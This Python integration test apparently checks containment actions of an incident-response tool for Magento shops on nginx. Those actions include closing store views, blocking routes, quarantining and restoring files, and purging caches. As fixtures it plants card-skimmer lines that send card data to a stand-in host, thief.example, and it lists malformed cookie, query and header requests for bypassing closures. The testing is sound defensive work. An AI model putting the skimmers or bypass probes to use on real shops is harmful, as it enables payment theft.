#!/usr/bin/env python3
"""Steps of containment by hand at a real nginx and PHP: a closed view is closed by every way in, and nothing else is.

usage: contain.py MAGEWARDEN

Starts the stand-in shop (nginx, php-fpm, MariaDB, Redis) and asks it thousands of requests in every combination of host, path,
parameter, cookie and header that scope.py knows: first with nothing closed, where the shop says which view it served, then with
one view after the other closed. What was served the closed view must get 503, all else the same answer as before. Checkouts of
the other views go on beside it all and none may fail. Then: undo to the byte, an administrator's broken configuration, a server
that doesn't include our rules, networks, routes, PHP, a changed file put back, caches with a poisoned page emptied – with the contract
of actions at a real Redis –, and kills at random moments.
"""
import concurrent.futures
import http.client
import os
import pathlib
import random
import re
import signal
import socket
import subprocess
import sys
import threading
import time
import zlib

sys.path.insert(0, str(pathlib.Path(__file__).resolve().parent.parent / "shop"))

import scope
from shared import free_port, need, stage, wait_for
from shop import STORES, Shop
from varnish import Varnish

ROOT = pathlib.Path(__file__).resolve().parents[2]

REQUESTS, KILLS = 1500, 30


class Containment:
    """The command, at one shop."""

    def __init__(self, magewarden, shop):
        self.magewarden, self.shop, self.folder = magewarden, shop, shop.folder
        nginx, self.include = shop.folder / "nginx.conf", shop.folder / "include"
        self.hold, self.logs = shop.folder / "hold", shop.folder / "logs"
        self.hold.mkdir(mode=0o700)
        self.logs.mkdir()
        own = f'"/usr/sbin/nginx", "-c", "{nginx}", "-e", "{shop.folder}/nginx-error.log"'
        (shop.folder / "host.toml").write_text(
            f'[magento]\nroot = "{shop.root}"\nquarantine = "{shop.folder}/aside"\ngood_files = "{shop.folder}/good-files"\nenvironment = ["{shop.folder}/fpm.conf"]\n[nginx]\nfolder = "{self.include}"\ntest = [{own}, "-t"]\nreload = [{own}, "-s", "reload"]\n'
            f'ask = "127.0.0.1:{shop.port}"\nproxies = ["127.0.0.8"]\n'
            f'[hold]\nfolder = "{self.hold}"\nlogs = ["{self.logs}"]\n')
        self.stores("false")
        self.right("--prepare")
        text = nginx.read_text().replace("http {", f"http {{\n  include {self.include}/http.conf;", 1)
        self.server = f"    include {self.include}/server.conf;\n"
        text = text.replace("      fastcgi_param MAGE_RUN_CODE", "      fastcgi_param HTTP_COOKIE $http_cookie;\n      fastcgi_param HTTP_STORE $http_store;\n      fastcgi_param MAGE_RUN_CODE")
        # A log in the folder whose logs are held.
        usual = f"access_log {shop.folder}/access.log combined;"
        need(text.count(usual) == 1, "the shop's access log")
        text = text.replace(usual, f"{usual}\n    access_log {self.logs}/access.log combined;")
        nginx.write_text(text.replace("    server_name *.shop.test;\n", "    server_name *.shop.test;\n" + self.server))
        shop.nginx.send_signal(signal.SIGHUP)
        time.sleep(1)

    def stores(self, code_in_path):
        (self.folder / "stores.toml").write_text(STORES.replace("code_in_path = false", f"code_in_path = {code_in_path}"))

    def command(self, *words):
        vault = ["--vault", str(self.folder / "vault")] if words[-1] != "--prepare" else []
        return [str(self.magewarden), "respond", *words, "--host", str(self.folder / "host.toml"), "--stores", str(self.folder / "stores.toml"), *vault]

    def run(self, *words):
        return subprocess.run(self.command(*words), capture_output=True, text=True, timeout=120)

    def right(self, *words):
        done = self.run(*words)
        need(done.returncode == 0, f"respond {' '.join(words)}: {done.returncode}", done.stdout + done.stderr)
        return done.stdout

    def file(self):
        """Our include file: content, mode, owner, time of change."""
        about = (self.include / "http.conf").stat()
        return (self.include / "http.conf").read_bytes(), about.st_mode, about.st_uid, about.st_gid, about.st_mtime_ns


def send(shop, request):
    """Status and the view that was served; what names a store in a form's body is left to its own test."""
    host, path, parameter, cookie, header, method = request
    headers = [("Cookie", cookie)] if cookie is not None else []
    headers += [("Store", header)] if header is not None else []
    status, served, _ = shop.ask(host, path + (f"?{parameter}" if parameter else ""), method, headers, "" if method == "POST" else None)
    return status, served


def everywhere(shop, asked):
    with concurrent.futures.ThreadPoolExecutor(4) as pool:
        return list(pool.map(lambda request: send(shop, request), asked))


class Checkouts:
    """Checkouts of some views, one after the other, until it is ended; every answer is looked at."""

    def __init__(self, shop, views):
        self.shop, self.views, self.bought, self.lost, self.is_over = shop, views, 0, [], threading.Event()
        self.thread = threading.Thread(target=self.go)

    def go(self):
        while not self.is_over.is_set():
            for host, view in self.views:
                try:
                    status, served, _ = self.shop.ask(host, "/checkout/")
                    if (status, served) != (200, view):
                        raise ValueError(f"checkout page: {status}, {served}")
                    int(self.shop.buy(host, view))
                    self.bought += 1
                except (OSError, ValueError, TypeError, http.client.HTTPException) as error:
                    self.lost.append((view, repr(error)))

    def __enter__(self):
        self.thread.start()
        return self

    def __exit__(self, *_):
        self.is_over.set()
        self.thread.join()


HOSTS_OF = {"de": "de.shop.test", "fr": "fr.shop.test", "us": "us.shop.test"}


def every_way(contain, shop):
    """Each view closed in turn; gives how many requests were compared, and how many checkouts passed meanwhile."""
    compared = closed_count = bought = 0
    for code_in_path in ("false", "true"):
        shop.sql(f"update shop.mg_core_config_data set value = '{int(code_in_path == 'true')}' where path = 'web/url/use_store'")
        shop.flush()
        contain.stores(code_in_path)
        asked = scope.requests(random.Random(20261130))
        asked = random.Random(7).sample(asked, REQUESTS) + [(host, path, "", None, None, "GET") for host in scope.HOSTS for path in scope.PATHS]
        # More variables than PHP takes: the parameter behind them is none, so it must not open what the cookie asks for.
        asked += [("de.shop.test", "/", "a&" * 1100 + "___store=de", "store=fr", None, "GET")]
        before = everywhere(shop, asked)
        for words, views in ((("close_view", "--set", "view=fr"), {"fr"}), (("close_view", "--set", "view=us"), {"us"}), (("close_view", "--set", "view=de"), {"de"}),
                             (("close_view", "--set", "view=old"), {"old"}), (("close_website", "--set", "website=base"), {"de", "fr", "old"})):
            was = contain.file()
            with Checkouts(shop, [(host, view) for view, host in HOSTS_OF.items() if view not in views]) as others:
                contain.right(*words, "--act")
                now = everywhere(shop, asked)
                said = contain.right(*words, "--undo")
            need(contain.file() == was, f"{words} undone: the include file as it was", said)
            need(others.bought and not others.lost, f"{words}: checkouts of other views pass ({others.bought} did)", others.lost[:5])
            wrong = []
            for request, truth, answer in zip(asked, before, now):
                path = request[1]
                for_all = truth[1] == "admin" and "office_x1" not in path
                expected = (503, None) if truth[1] in views or for_all else truth
                # Every variable above PHP's limit: closed with any view.
                if answer != expected and not (len(request[2]) > 2000 and answer[0] == 503):
                    wrong.append((request[0], path, request[2][-40:], *request[3:], "was", truth, "is", answer))
                closed_count += answer[0] == 503
            need(not wrong, f"{words}, codes in paths {code_in_path}: {len(wrong)} of {len(asked)} requests", "\n".join(map(str, wrong[:20])))
            compared, bought = compared + len(asked), bought + others.bought
        need(everywhere(shop, asked[:300]) == before[:300], "undone, all is as before")
    shop.sql("update shop.mg_core_config_data set value = '0' where path = 'web/url/use_store'")
    shop.flush()
    contain.stores("false")
    return compared, closed_count, bought


# Path and query, host, header lines: written as no browser does.
BENT = [(path, "de.shop.test", lines) for path, lines in (
    *(("/", [f"Cookie: {cookie}"]) for cookie in (
        "store=de, store=fr", "a=b;\tstore=fr", "a=b;store=fr", ";;; store=fr", "st%6fre=fr", "store[_data][code]=fr", "store[x]=1; store=fr",
        "store=de; store[_data][code]=fr", "store[_data][code]=fr; store=de", "store[_data][code]=de; store[_data][code]=fr", "store [_data][code]=fr",
        'store="fr"', "store; store=fr", "=; store=fr", "store=+fr", "a=1;\x0cstore=fr", "store=fr%00", "a;" * 1100 + "store=de; store=fr")),
    *(("/", [f"Cookie: {first}", f"Cookie: {last}"]) for first, last in (("store=de", "store=fr"), ("store=fr", "store=de"), ("a=b", "store=fr"))),
    *(("/graphql", lines) for lines in (["Store: de", "Store: fr"], ["Store: fr", "Store: de"], ["Store:", "Store: fr"], ["sTORE: fr"], ["Store: \tfr\t"],
                                        ["Store: 0", "Cookie: store=fr"], ["Store: FR"], ["Cookie: store=fr+"], ["Cookie: store=FR"])),
    *((f"/?{query}", []) for query in (
        "___store[_data][code]=fr", "___store[_data][code]x=fr", "___store=de&___store[_data][code]=fr", "___store[_data][code]=fr&___store=de",
        "___store[_data][code]=fr&___store[x]=de", "___store[_data][code]=fr&___store[_data][code]=nobody", "___store[_data]=1&___store[_data][code]=fr",
        "___store[%20_data][code]=fr", "__[store=fr", "_[_store=fr", "_[[store=fr", "__%5bstore=fr", "%09___store=fr", "a=1;___store=fr", "___store%00[x]=fr",
        "___store[=fr", "___store.=fr", "___store=fr%00", "?___store=fr", "a?___store=fr", "___store=fr=", "___store=fr#x")),
    *((path, []) for path in (
        "http://de.shop.test/rest/fr/V1/x", "http://fr.shop.test/", "//rest/fr/V1", "/index.php/index.php/rest/fr/V1", "/index.phprest/fr/V1", "/rest///fr/V1", "/rest/fr",
        "/rest/fr?x", "/rest%2ffr/V1", "/./rest/fr/V1", "/x/../rest/fr/V1", "/Rest/fr/V1", "/soap//fr", "/#?___store=fr", "/magewarden-closed",
        "/health_check.php?___store=fr")),
)] + [("/", host, []) for host in ("FR.SHOP.TEST", "fr.shop.test.", "fr.shop.test:99", "nobody.shop.test")]


def raw(shop, path, host, lines):
    """Status and served view of a request as it is written."""
    text = "".join(line + "\r\n" for line in (f"GET {path} HTTP/1.1", f"Host: {host}", *lines, "Connection: close", ""))
    with socket.create_connection(("127.0.0.1", shop.port), 20) as link:
        link.sendall(text.encode("latin-1"))
        answer = b"".join(iter(lambda: link.recv(65536), b"")).decode(errors="replace")
    found = re.search(r"^X-Store: (\S+)", answer, re.M)
    return answer.split(" ")[1], found and found[1]


def bent(contain, shop):
    """The same for requests that no browser sends."""
    before = [raw(shop, *one) for one in BENT]
    need(sum(view == "fr" for _, view in before) > 20, "many of them are served the view", before)
    contain.right("close_view", "--set", "view=fr", "--act")
    now = [raw(shop, *one) for one in BENT]
    contain.right("close_view", "--set", "view=fr", "--undo")
    wrong = [(one, was, answer) for one, was, answer in zip(BENT, before, now) if answer != (("503", None) if was[1] == "fr" else was)]
    need(not wrong, f"{len(wrong)} of {len(BENT)} bent requests", "\n".join(map(str, wrong)))


def what_stays_open(contain, shop):
    """What the facts say stays open does; the holding page says when to come back."""
    contain.right("close_view", "--set", "view=us", "--act")
    form = [("Content-Type", "application/x-www-form-urlencoded")]
    need(shop.ask("fr.shop.test", "/", "POST", form, "___store=us")[1] == "us", "a form's body stays open, as the facts say")
    link = http.client.HTTPConnection("127.0.0.1", shop.port, timeout=20)
    link.request("GET", "/", headers={"Host": "us.shop.test"})
    answer = link.getresponse()
    need(answer.status == 503 and int(answer.getheader("Retry-After")) > 0 and b"closed for a while" in answer.read(), "a holding page")
    link.close()
    need("stays open" in contain.run("close_view").stdout, "the command says it")
    contain.right("close_view", "--set", "view=us", "--undo")


def refusals(contain, shop):
    """Networks, routes, PHP, Magento's maintenance mode, and a file that was dropped."""
    def status(path, source="127.0.0.1"):
        link = http.client.HTTPConnection("127.0.0.1", shop.port, timeout=20, source_address=(source, 0))
        link.request("GET", path, headers={"Host": "de.shop.test"})
        out = link.getresponse().status
        link.close()
        return out

    contain.right("block_network", "--set", "network=127.0.0.64/28", "--act")
    need([status("/", f"127.0.0.{last}") for last in (63, 64, 79, 80)] == [200, 403, 403, 200], "a network is refused, its neighbours aren't")
    refused = contain.run("block_network", "--set", "network=127.0.0.0/24", "--act")
    need(refused.returncode == 1 and "a proxy" in refused.stderr, "a network with a proxy in it", refused.stderr)
    contain.right("block_route", "--set", "route=/rest/V1/guest-carts", "--act")
    for path in ("/rest/V1/guest-carts", "/rest/V1/guest-carts/x/items", "/REST/v1/guest-carts", "/index.php/rest/V1/guest-carts", "//rest//V1/guest-carts?a=1", "/rest/V1/%67uest-carts"):
        need(status(path) == 403, f"{path} is refused", status(path))
    for path in ("/rest/V1/orders", "/rest/V1/guest-cartsx", "/a.html?x=/rest/V1/guest-carts"):
        need(status(path) == 200, f"{path} isn't", status(path))
    contain.right("deny_php", "--act")
    for path in ("/media/x.php", "/media/x.PHP", "/x.phtml?a", "/media/x.php/y.jpg", "/a/%78.ph%70", "/errors/x.php", "/index.php.phar"):
        need(status(path) == 403, f"{path} is refused", status(path))
    for path in ("/", "/index.php", "/index.php/a.html", "/get.php", "/health_check.php", "/errors/503.php", "/phpinfo", "/a.phpx"):
        need(status(path) == 200, f"{path} isn't", status(path))
    # Undone in another order than done: each leaves the others.
    contain.right("block_network", "--set", "network=127.0.0.64/28", "--undo")
    need(status("/", "127.0.0.64") == 200 and status("/x.php") == 403, "only the network is open again")
    contain.right("block_route", "--set", "route=/rest/V1/guest-carts", "--undo")
    contain.right("deny_php", "--undo")
    need(status("/x.php") == 200, "all is open again")
    (shop.root / "var").mkdir()
    contain.right("maintenance", "--act")
    need((shop.root / "var/.maintenance.flag").exists(), "the flag")
    contain.right("maintenance", "--undo")
    need(not list((shop.root / "var").iterdir()), "nothing is left")
    (shop.folder / "aside").mkdir(mode=0o700)
    dropped, extended = shop.root / "pub/static/x.js", True
    dropped.write_text("dropped()")
    dropped.chmod(0o640)
    os.utime(dropped, ns=(1, 1_700_000_000_123_456_789))
    try:
        os.setxattr(dropped, "user.origin", b"upload")
    except OSError:
        extended = False
    contain.right("quarantine_file", "--set", "file=pub/static/x.js", "--act")
    need(status("/static/x.js") == 404, "a file moved aside isn't served")
    contain.right("quarantine_file", "--set", "file=pub/static/x.js", "--undo")
    about = dropped.stat()
    need((about.st_mode & 0o777, about.st_mtime_ns, dropped.read_text()) == (0o640, 1_700_000_000_123_456_789, "dropped()"), "it is back as it was", about)
    need(not extended or os.getxattr(dropped, "user.origin") == b"upload", "with its attributes")
    dropped.unlink()


def restored(contain, shop):
    """A script of the checkout that was changed: served no more, given back to the letter, and never missing in between."""
    good, script = shop.folder / "good-files/pub/static", shop.root / "pub/static/checkout.js"
    good.mkdir(parents=True)
    clean = script.read_text()
    (good / "checkout.js").write_text(clean)
    script.write_text(clean + "new Image().src = '//thief.example/?' + card.value;\n")
    script.chmod(0o640 if os.geteuid() else 0o604)
    os.utime(script, ns=(1_700_000_001_000_000_007, 1_700_000_000_123_456_789))
    extended = True
    try:
        os.setxattr(script, "user.origin", b"upload")
    except OSError:
        extended = False
    inode = script.stat().st_ino
    served = lambda: shop.ask("de.shop.test", "/static/checkout.js")
    poisoned = served()
    need(poisoned[0] == 200 and "thief.example" in poisoned[2], "the attack works before", poisoned)
    os.utime(script, ns=(1_700_000_001_000_000_007, 1_700_000_000_123_456_789))
    words, told, is_over = ("restore_file", "--set", "file=pub/static/checkout.js"), set(), threading.Event()

    def look():
        while not is_over.is_set():
            told.add((served()[0], served()[2]))

    looking = threading.Thread(target=look)
    looking.start()
    for _ in range(5):
        contain.right(*words, "--act")
        need(served()[2] == clean and contain.right(*words, "--check") == "in effect\n", "served no more")
        contain.right(*words, "--undo")
        need(served()[2] == poisoned[2], "given back")
    is_over.set()
    looking.join()
    need(told == {(200, clean), (200, poisoned[2])}, "it was one or the other at every moment", told)
    about = script.stat()
    need((about.st_ino, about.st_mtime_ns) == (inode, 1_700_000_000_123_456_789), "the very file is back", about)
    need(not extended or os.getxattr(script, "user.origin") == b"upload", "with its attributes")
    for _ in range(KILLS):
        process = subprocess.Popen(contain.command(*words, "--act"), stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
        time.sleep(random.random() * 0.05)
        process.kill()
        process.wait()
        need(served()[0] == 200, "killed midway: it is served")
        undone = contain.run(*words, "--undo")
        need(undone.returncode == 0 or "nothing is kept" in undone.stderr, "undone", undone.stdout + undone.stderr)
        need(script.stat().st_ino == inode and not list((shop.folder / "aside").iterdir()) and {one.name for one in script.parent.iterdir()} == {"checkout.js", "shop.css"},
             "nothing is left beside it or aside")
    script.write_text(clean)
    script.chmod(0o644)


def contract(port):
    """The contract of actions, at a Redis of its own."""
    env = {**os.environ, "MAGEWARDEN_TEST_REDIS": str(port)}
    tested = subprocess.run(["cargo", "test", "--locked", "-p", "magewarden-responders", "--test", "it", "cache", "--", "--nocapture"], env=env, cwd=ROOT, capture_output=True, text=True)
    need(tested.returncode == 0 and "1 passed" in tested.stdout and "skipped" not in tested.stderr, "the contract of actions at a real Redis", tested.stdout + tested.stderr)


def purged(contain, shop):
    """A setting puts a skimmer on every page; put back in the database, caches go on serving it until they are emptied, in order."""
    def redis(*words, database=0):
        done = subprocess.run(["redis-cli", "-p", str(shop.redis), "-n", str(database), *words], check=True, capture_output=True, text=True)
        return done.stdout.split()

    varnish, pages = Varnish(shop), [("de.shop.test", "/"), ("fr.shop.test", "/"), ("us.shop.test", "/a.html"), ("us.shop.test", "/b.html")]
    account = re.search(r"^ACL SETUSER (containment .*)$", (ROOT / "docs/containment.md").read_text(), re.M)
    redis("ACL", "SETUSER", *account[1].replace("PASSWORD", "word").split())
    word = shop.folder / "cache-word"
    word.write_text("word\n")
    word.chmod(0o600)
    host = (shop.folder / "host.toml").read_text()
    at = f'at = "127.0.0.1:{shop.redis}"'
    (shop.folder / "host.toml").write_text(f'{host}[cache]\nservers = [{{ {at}, database = 0 }}, {{ {at}, database = 1 }}]\nprefix = "abc_"\nuser = "containment"\n'
                                           f'password_file = "{word}"\nvarnish = ["127.0.0.1:{varnish.port}"]\n')
    place = "where scope_id = 0 and path = 'design/head/includes'"
    was = shop.sql(f"select value from shop.mg_core_config_data {place}").strip()
    put = lambda value: shop.sql(f"update shop.mg_core_config_data set value = '{value}' {place}")
    need("'" not in was, "a setting without quotes", was)
    seen = lambda: [host for host, path in pages if "thief.example" in varnish.ask(host, path)]
    put(was + "<script src=//thief.example/x.js></script>")
    shop.flush_entries()
    need(len(seen()) == 4, "the attack works before")
    put(was)
    need(len(seen()) == 4, "the row is put back, and every page goes on")
    redis("HSET", "sess_of_a_shopper", "data", "checkout", "writes", "1")
    sessions = lambda: sorted(key for key in redis("KEYS", "*") if not key.startswith(("zc:", "magewarden:")))
    before, tag = sessions(), f"tag=cat_p_{zlib.crc32(b'a.html')}"
    need(before, "there are sessions")
    # By a tag: that page's entry and copy go, but the settings are cached still, so it comes back poisoned; the others stay as they are.
    kept = dict(varnish.pages)
    contain.right("purge_cache", "--set", tag, "--act")
    need(kept.keys() - varnish.pages.keys() == {pages[2]}, "the page of the tag is forgotten and no other", varnish.pages.keys())
    contain.right("purge_cache", "--set", tag, "--undo")
    varnish.lets = False
    refused = contain.run("purge_cache", "--act")
    need(refused.returncode == 1 and "405 to PURGE" in " ".join(refused.stderr.replace("│", " ").split()), "a Varnish that doesn't let us in is told", refused.stderr)
    need(contain.run("purge_cache", "--check").returncode == 10 and len(seen()) == 3, "that isn't in effect: Varnish serves what it has")
    varnish.lets = True
    contain.right("purge_cache", "--undo")
    with Checkouts(shop, [(host, view) for view, host in HOSTS_OF.items()]) as others:
        told = contain.right("purge_cache", "--survey")
        need("entries in database 0" in told and "Varnish at" in told, "the survey says what would go", told)
        need(contain.right("purge_cache", "--act") == "in effect\n", "in effect")
        need(not seen() and contain.right("purge_cache", "--check") == "in effect\n", "no page is poisoned any more", seen())
        contain.right("purge_cache", "--undo")
        # Killed anywhere: what it left is described, and done again it is done.
        for _ in range(10):
            put(was + "<script src=//thief.example/x.js></script>")
            shop.flush_entries()
            varnish.pages = {}
            seen()
            put(was)
            process = subprocess.Popen(contain.command("purge_cache", "--act"), stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
            time.sleep(random.random() * 0.1)
            process.kill()
            process.wait()
            told = contain.run("purge_cache", "--check")
            need(told.returncode != 0 or not seen(), "in effect is said only when it is", told.stdout)
            contain.right("purge_cache", "--act")
            need(not seen(), "done again, no page is poisoned")
            contain.right("purge_cache", "--undo")
    need(others.bought and not others.lost, f"checkouts pass ({others.bought} did)", others.lost[:5])
    need(set(before) <= set(sessions()) and redis("HGET", "sess_of_a_shopper", "data") == ["checkout"], "every session is there", sessions())
    need(not redis("KEYS", "magewarden:*") and not redis("KEYS", "magewarden:*", database=1), "no mark is left")
    (shop.folder / "host.toml").write_text(host)
    varnish.server.shutdown()


def mistakes(contain, shop):
    """Somebody's mistake in nginx's configuration: nothing changes, and the words say so."""
    nginx, was = shop.folder / "nginx.conf", contain.file()
    text = nginx.read_text()
    for changed, words in ((text + "nonsense on;\n", "unknown directive"), (text.replace(contain.server, ""), "server.conf into each server")):
        nginx.write_text(changed)
        if "nonsense" not in changed:
            shop.nginx.send_signal(signal.SIGHUP)
            time.sleep(1)
        done = contain.run("close_view", "--set", "view=fr", "--act")
        need(done.returncode == 1 and words in done.stderr, f"it says `{words}`", done.stdout + done.stderr)
        need(contain.file() == was, "the include file as it was")
        need(shop.ask("fr.shop.test", "/")[0] == 200, "the shop is open")
        nginx.write_text(text)
        shop.nginx.send_signal(signal.SIGHUP)
        time.sleep(1)
        contain.right("close_view", "--set", "view=fr", "--undo")
        need(contain.file() == was, "the include file as it was")


def kills(contain, shop):
    """Killed at random, while it closes or opens; gives how often it was killed midway."""
    chance, words, midway = random.Random(11), ("close_view", "--set", "view=fr"), 0
    was = contain.file()
    with Checkouts(shop, [(HOSTS_OF[view], view) for view in ("de", "us")]) as others:
        for turn in range(KILLS):
            opening = turn % 3 == 2
            if opening:
                contain.right(*words, "--act")
            process = subprocess.Popen(contain.command(*words, "--undo" if opening else "--act"), stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
            time.sleep(chance.random() * 0.5)
            process.kill()
            midway += process.wait() == -signal.SIGKILL
            told = contain.run(*words, "--check")
            need(told.returncode in (0, 10) and "in effect" in told.stdout, "what it left is described", told.stdout + told.stderr)
            if turn % 2:
                contain.right(*words, "--act")
                need(contain.right(*words, "--check") == "in effect\n" and shop.ask("fr.shop.test", "/")[0] == 503, "closed after all")
            undone = contain.run(*words, "--undo")
            need(undone.returncode == 0 or "nothing is kept" in undone.stderr, "undone", undone.stdout + undone.stderr)
            need(contain.file() == was and shop.ask("fr.shop.test", "/")[0] == 200, f"turn {turn}: as before", told.stdout)
            need(sorted(path.name for path in contain.include.iterdir()) == ["http.conf", "server.conf"], "no file is left")
    need(others.bought and not others.lost, f"checkouts of other views pass ({others.bought} did)", others.lost[:5])
    return midway


def main():
    magewarden = pathlib.Path(sys.argv[1]).resolve()
    with stage("cache-contract") as (started, folder):
        port = free_port()
        started.append(subprocess.Popen(["redis-server", "--port", str(port), "--bind", "127.0.0.1", "--save", "", "--dir", str(folder)], stdout=subprocess.DEVNULL))
        wait_for("Redis", 20, lambda: subprocess.run(["redis-cli", "-p", str(port), "ping"], capture_output=True).returncode == 0)
        contract(port)
    with stage("contain") as (started, folder):
        shop = Shop(folder, started)
        contain = Containment(magewarden, shop)
        compared, closed, bought = every_way(contain, shop)
        bent(contain, shop)
        what_stays_open(contain, shop)
        refusals(contain, shop)
        restored(contain, shop)
        purged(contain, shop)
        mistakes(contain, shop)
        midway = kills(contain, shop)
        print(f"9 passed, 0 failed ({compared + len(BENT)} requests compared, {closed} of them closed, {bought} checkouts of others meanwhile, {midway} kills midway)")


if __name__ == "__main__":
    main()
